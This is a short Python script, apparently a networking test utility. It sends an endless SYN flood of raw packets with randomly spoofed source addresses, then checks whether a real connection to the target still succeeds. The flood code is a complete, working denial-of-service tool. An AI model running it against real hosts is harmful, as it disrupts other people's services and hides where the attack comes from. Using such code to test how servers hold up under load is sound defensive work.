#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""A SYN flood from made-up addresses, and an opener who can wait.

  synflood.py flood DEV DST_MAC PREFIX ADDRESS PORT   SYNs from PREFIX.x.y:* (IPv4) until SIGTERM
  synflood.py open ADDRESS PORT SECONDS               "open" once a connection stands and echoes, else why not
"""
import random
import socket
import struct
import sys

WORD = struct.Struct("!H")


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(source, address, port):
    pair = socket.inet_aton(source) + socket.inet_aton(address)
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 1024, 0, 0)
    tcp = tcp[:16] + WORD.pack(checksum(pair + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + pair
    return ip[:10] + WORD.pack(checksum(ip)) + ip[12:] + tcp


def flood(dev, mac, prefix, address, port):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((dev, 0))
    head = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
    while True:
        source = "%s.%d.%d" % (prefix, random.randrange(1, 255), random.randrange(1, 255))
        try:
            wire.send(head + syn(source, address, port))
        except OSError:
            pass  # the queue is full: the next one


def open_one(address, port, seconds):
    try:
        with socket.create_connection((address, port), seconds) as s:
            s.sendall(b"hello")
            print("open" if s.recv(5) else "closed")
    except OSError as error:
        print(error)


if __name__ == "__main__":
    if sys.argv[1] == "flood":
        flood(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]))
    else:
        open_one(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
